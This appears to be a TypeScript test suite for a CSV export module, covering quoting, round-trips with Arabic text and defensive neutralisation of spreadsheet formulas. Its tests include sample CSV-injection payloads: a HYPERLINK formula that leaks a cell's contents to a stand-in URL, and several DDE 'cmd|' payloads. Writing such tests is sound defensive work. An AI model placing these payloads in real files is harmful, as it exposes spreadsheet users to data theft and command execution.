import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { seededRandom } from '$lib/data/testing/random';
import {
	BOM,
	csvDocument,
	csvDocumentParts,
	csvField,
	csvRow,
	neutraliseFormula,
	restoreFormula
} from './csv';

describe('csv', () => {
	it('quotes only what needs it', () => {
		expect(csvField('Hajin')).toBe('Hajin');
		expect(csvField('a,b')).toBe('"a,b"');
		expect(csvField('say "hi"')).toBe('"say ""hi"""');
		expect(csvField('two\nlines')).toBe('"two\nlines"');
		expect(csvField(' padded')).toBe('" padded"');
		expect(csvField(null)).toBe('');
		expect(csvField(25678.005)).toBe('25678.005');
		expect(csvRow(['a', 'b,c'])).toBe('a,"b,c"\r\n');
	});

	it('round-trips any text through a CSV parser (property test)', () => {
		const random = seededRandom(17);
		const alphabet = ['a', 'z', ',', '"', '\n', '\r\n', ' ', 'هجين', '—', ';', '\t', '0', '.'];
		for (let trial = 0; trial < 300; trial++) {
			const rows = Array.from({ length: 1 + Math.floor(random() * 4) }, () =>
				Array.from({ length: 3 }, () =>
					Array.from(
						{ length: Math.floor(random() * 8) },
						() => alphabet[Math.floor(random() * alphabet.length)]
					).join('')
				)
			);
			const text = rows.map((row) => csvRow(row)).join('');
			const parsed = Papa.parse<string[]>(text, { newline: '\r\n', delimiter: ',' }).data.filter(
				(row) => row.length === 3
			);
			expect(parsed).toEqual(rows);
		}
	});
});

describe('csv documents', () => {
	it('round-trips commas, quotes, line breaks and Arabic, after a BOM and comment lines', () => {
		const header = ['id', 'place_ar', 'summary', 'killed_min'];
		const rows = [
			['IQ-SY-001', 'هجين', 'Strike, "claimed" by Iraq;\r\nsecond line', 3],
			['IQ-SY-002', 'الباغوز فوقاني', '', null],
			['=1+1', ' ', '"', '']
		];
		const text = csvDocument(header, rows, ['permalink: http://x/#map=1/2/3', 'cite\nme']);
		expect(text.startsWith(BOM + '# permalink')).toBe(true);
		expect(text).toContain('# cite me\r\n');
		const parsed = Papa.parse<string[]>(text.slice(1), { comments: '#', skipEmptyLines: true });
		expect(parsed.errors).toEqual([]);
		// Cells are text after a round trip, and the formula-like one keeps its neutralising quote.
		expect(parsed.data).toEqual([
			header,
			['IQ-SY-001', 'هجين', 'Strike, "claimed" by Iraq;\r\nsecond line', '3'],
			['IQ-SY-002', 'الباغوز فوقاني', '', ''],
			["'=1+1", ' ', '"', '']
		]);
	});

	it('writes every value as given with formulas: raw', () => {
		const text = csvDocument(['a'], [['=1+1'], ['@SUM(A1)']], [], { formulas: 'raw' });
		expect(text).toBe(`${BOM}a\r\n=1+1\r\n@SUM(A1)\r\n`);
	});
});

describe('formula neutralisation (OWASP CSV injection)', () => {
	it.each([
		[
			'=HYPERLINK("http://example.org/?leak="&A1,"click")',
			`'=HYPERLINK("http://example.org/?leak="&A1,"click")`
		],
		["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
		['-2+3+cmd|x', "'-2+3+cmd|x"],
		['@SUM(1+1)*cmd|x', "'@SUM(1+1)*cmd|x"],
		['\t=1+1', "'\t=1+1"],
		['\r=1+1', "'\r=1+1"],
		['-', "'-"],
		['- a list item', "'- a list item"],
		['-5 km', "'-5 km"]
	])('prefixes %j', (value, expected) => {
		expect(neutraliseFormula(value)).toBe(expected);
	});

	it.each([['-5'], ['-3.2'], ['+7'], ['-1.5e3'], ['-.5'], ['Hajin'], ['a=b'], [' =1'], ['']])(
		'leaves %j alone',
		(value) => {
			expect(neutraliseFormula(value)).toBe(value);
		}
	);

	it('leaves numbers, booleans and blanks alone', () => {
		expect([-5, -3.2, 0, true, null, undefined].map(neutraliseFormula)).toEqual([
			-5,
			-3.2,
			0,
			true,
			null,
			undefined
		]);
	});

	it('neutralises header and body cells of a document, and the quoting still holds', () => {
		const text = csvDocument(
			['id', '=evil'],
			[
				['A1', '=HYPERLINK("x","y")'],
				['A2', -5],
				['A3', '-3.2'],
				['A4', '@SUM(A1:A2)']
			]
		);
		const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
		expect(parsed.errors).toEqual([]);
		expect(parsed.data).toEqual([
			['id', "'=evil"],
			['A1', `'=HYPERLINK("x","y")`],
			['A2', '-5'],
			['A3', '-3.2'],
			['A4', "'@SUM(A1:A2)"]
		]);
	});
});

describe('restoring what the app neutralised (re-importing its own export)', () => {
	it.each([['=HYPERLINK("x")'], ["'=x"], ["''@y"], ['-5'], ["'-5"], ["'plain"], ['-'], ['\t=1']])(
		'gives %j back as it was',
		(value) => {
			expect(restoreFormula(neutraliseFormula(value))).toBe(value);
		}
	);

	it('is the inverse of neutraliseFormula for any text (property test)', () => {
		fc.assert(
			fc.property(
				fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '5', 'a', '.') }),
				(value) => {
					expect(restoreFormula(neutraliseFormula(value))).toBe(value);
				}
			)
		);
	});
});

describe('csvDocumentParts', () => {
	it('writes the document in parts of so many rows, the same text joined', () => {
		const rows = Array.from({ length: 10 }, (_, i) => [`=${i}`, i, 'a,"b"']);
		const parts = [...csvDocumentParts(['x', 'y', 'z'], rows, ['note'], {}, 3)];
		expect(parts.join('')).toBe(csvDocument(['x', 'y', 'z'], rows, ['note']));
		expect(parts.slice(1).map((part) => part.split('\r\n').length - 1)).toEqual(
			[3, 3, 3, 1].slice(0, parts.length - 1)
		);
	});
});
